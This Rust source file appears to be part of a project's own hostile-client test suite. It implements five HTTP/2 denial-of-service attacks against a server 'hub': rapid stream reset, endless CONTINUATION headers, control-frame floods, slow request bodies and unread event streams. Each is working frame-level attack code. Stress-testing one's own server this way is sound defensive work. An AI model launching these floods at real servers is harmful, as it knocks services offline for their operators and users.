//! Frames of HTTP/2 as no library would send them.

use std::io::{self, Read as _};
use std::thread;
use std::time::Duration;

use crate::hostile::attacks::Attack;
use crate::hostile::attacks::sealed::{push, signed_in};
use crate::hostile::frames;
use crate::hostile::landscape;
use crate::hostile::stranger::{Sealed, Target, masked, unique};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "http2-rapid-reset",
        does: "asks by HTTP/2 and takes it back at once, as fast as a connection carries it",
        before: landscape::empty,
        threads: 4,
        worst: rapid_reset,
    },
    Attack {
        name: "http2-continuations",
        does: "sends headers by HTTP/2 that go on and on, and never end",
        before: landscape::empty,
        threads: 4,
        worst: continuations,
    },
    Attack {
        name: "http2-control",
        does: "settings, pings and windows by HTTP/2, as fast as a connection carries them, and reads no answer",
        before: landscape::empty,
        threads: 4,
        worst: control,
    },
    Attack {
        name: "http2-slow-bodies",
        does: "begins to publish by HTTP/2, on as many streams and connections as it gets, and sends a byte now and then",
        before: landscape::empty,
        threads: 1,
        worst: slow_bodies,
    },
    Attack {
        name: "http2-events-unread",
        does: "listens to events by HTTP/2 on as many streams as it gets, without a window for what comes",
        before: landscape::empty,
        threads: 1,
        worst: events_unread,
    },
];

/// A connection on which settings were exchanged, with a window of so many bytes for each answer.
fn connect(target: &Target, window: u32) -> io::Result<Sealed> {
    let mut socket = target.sealed(b"h2")?;
    let settings = [&[0, INITIAL_WINDOW][..], &window.to_be_bytes()].concat();
    let begin = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &settings)].concat();
    push(&mut socket, &begin)?;
    let _ = socket.read(&mut [0; 4_096])?;
    push(&mut socket, &frame(SETTINGS, ACK, 0, b""))?;
    Ok(socket)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The headers of a request, each as it is, but for the method, which the static table has.
fn head(target: &Target, method: u8, path: &str) -> Vec<u8> {
    let literal = |index: u8, value: &str| [&[index, value.len() as u8], value.as_bytes()].concat();
    let host = target.hub.to_string();
    [vec![method, SCHEME_HTTPS], literal(PATH, path), literal(AUTHORITY, &host)].concat()
}

fn rapid_reset(target: Target) -> io::Result<()> {
    let mut socket = connect(&target, 65_535)?;
    let head = head(&target, GET, "/v1/topics");
    for first in (1..).step_by(200) {
        let requests = (first..first + 200).step_by(2).map(|stream| {
            let ask = frame(HEADERS, END_STREAM | END_HEADERS, stream, &head);
            [ask, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
        });
        push(&mut socket, &requests.collect::<Vec<_>>().concat())?;
    }
    Ok(())
}

fn continuations(target: Target) -> io::Result<()> {
    let mut socket = connect(&target, 65_535)?;
    push(&mut socket, &frame(HEADERS, END_STREAM, 1, &head(&target, GET, "/v1/topics")))?;
    let header = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
    loop {
        push(&mut socket, &frame(CONTINUATION, 0, 1, &header.repeat(150)).repeat(10))?;
    }
}

fn control(target: Target) -> io::Result<()> {
    let mut socket = connect(&target.narrow(), 65_535)?;
    let some = [
        frame(SETTINGS, 0, 0, &[0, INITIAL_WINDOW, 0, 0, 0, 1]),
        frame(PING, 0, 0, &[7; 8]),
        frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
        frame(SETTINGS, 0, 0, b""),
    ];
    loop {
        push(&mut socket, &some.concat().repeat(100))?;
    }
}

fn slow_bodies(target: Target) -> io::Result<()> {
    let mut sockets = Vec::new();
    for _ in 0..CONNECTIONS {
        let Ok(mut socket) = connect(&target, 65_535) else { break };
        for stream in streams() {
            let path = format!("/v1/topics/slow.{:x}/messages", unique());
            push(&mut socket, &frame(HEADERS, END_HEADERS, stream, &head(&target, POST, &path)))?;
        }
        sockets.push(socket);
    }
    for _ in 0..20 {
        for socket in &mut sockets {
            let bytes: Vec<_> = streams().map(|stream| frame(DATA, 0, stream, b"1")).collect();
            let _ = push(socket, &bytes.concat());
        }
        thread::sleep(Duration::from_millis(500));
    }
    Ok(())
}

fn events_unread(target: Target) -> io::Result<()> {
    let mut writer = signed_in(&target)?;
    push(&mut writer, &masked(0x82, &frames::open(1, 0, "loud", 1)))?;
    let large = vec![b'x'; 200_000];
    let mut sockets = Vec::new();
    for seq in 1..=CONNECTIONS {
        push(&mut writer, &masked(0x82, &frames::publish(1, seq, &large)))?;
        let Ok(mut socket) = connect(&target.narrow(), 0) else { break };
        let head = head(&target, GET, "/v1/events?from=earliest&topic=loud");
        let all: Vec<_> = streams().map(|it| frame(HEADERS, END_STREAM | END_HEADERS, it, &head)).collect();
        push(&mut socket, &all.concat())?;
        sockets.push(socket);
    }
    thread::sleep(Duration::from_secs(7));
    Ok(())
}

/// As many as a hub lets a connection have.
fn streams() -> impl Iterator<Item = u32> {
    (1..200).step_by(2)
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW: u8 = 4;
/// From the table that each end knows: whole headers, and names of those whose value follows.
const GET: u8 = 0x82;
const POST: u8 = 0x83;
const SCHEME_HTTPS: u8 = 0x87;
const PATH: u8 = 4;
const AUTHORITY: u8 = 1;
/// Connections, of a hundred streams each.
const CONNECTIONS: u64 = 50;
